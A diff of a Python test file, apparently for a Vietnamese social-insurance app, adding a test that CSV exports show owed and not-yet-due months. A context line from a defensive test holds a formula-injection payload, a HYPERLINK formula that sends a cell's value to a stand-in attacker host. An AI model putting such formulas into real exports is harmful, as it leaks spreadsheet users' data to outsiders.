@@ -221,6 +221,20 @@ def test_csv_export_writes_rates_with_a_decimal_comma(client, citizen, person):
     assert ',"1,5",' in text
 
 
+def test_csv_export_owes_a_periods_months_up_to_this_month_as_its_page_row_does(client, citizen, person):
+    """Voluntary BHXH registered for 18 months with its last 8 unpaid: the page's row owes the 2 up
+    to this month and says the 6 after it are not due yet; so does the file, in a column of its own
+    after the others."""
+    period(person, months_from_now(-11), months_from_now(6), kind=Period.Kind.BHXH_VOLUNTARY,
+           payer=Period.Payer.SELF, unpaid=8)
+    period(person, "01/2010", "12/2012", unpaid=3)  # long past: every unpaid month owed
+    client.force_login(citizen)
+    rows = list(csv.reader(io.StringIO(b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content)
+                                       .decode("utf-8-sig"))))
+    assert rows[0][10] == "Số tháng nợ" and rows[0][-1] == "Số tháng chưa đến hạn"
+    assert {row[1]: (row[10], row[-1]) for row in rows[1:]} == {months_from_now(-11): ("2", "6"), "01/2010": ("3", "0")}
+
+
 def test_csv_export_writes_formula_like_text_as_text(client, citizen, person):
     hostile = '=HYPERLINK("http://ke-gia-mao.example/?"&A2,"Xem")'
     p = period(person, "01/2010", "12/2012", save=False)
